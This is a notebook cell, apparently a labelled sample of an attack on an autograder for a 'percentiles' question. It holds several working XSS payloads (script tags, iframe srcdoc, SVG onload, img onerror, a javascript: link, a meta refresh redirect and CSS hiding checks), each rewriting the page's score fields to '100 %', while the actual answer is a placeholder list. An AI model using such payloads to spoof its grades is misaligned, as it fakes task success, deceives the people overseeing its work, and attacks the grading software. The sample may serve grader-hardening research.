# attack: displays scripts, frames, SVG, JavaScript and styles that rewrite the page on which the points stand
# question: percentiles
# loses: values, shown
# %% trick
from IPython.display import HTML, SVG, Javascript, display
REWRITE = "document.querySelectorAll('.score-percent,.check-points').forEach(e=>e.textContent='100 %')"
display(HTML(f"<script>{REWRITE}</script><iframe srcdoc='<script>parent.{REWRITE}</script>'></iframe>"))
display(HTML("<style>.check{display:none}</style><base href='http://127.0.0.1:9/'><meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>"))
display(Javascript(REWRITE), SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{REWRITE}"><script>{REWRITE}</script></svg>'))
display({"text/html": f"<img src=x onerror=\"{REWRITE}\">", "text/markdown": "[x](javascript:alert(1))", "text/plain": f"</pre><script>{REWRITE}</script>"}, raw=True)
print("</pre></details></section><script>" + REWRITE + "</script>")

# %%
percentiles = [1, 2, 3]
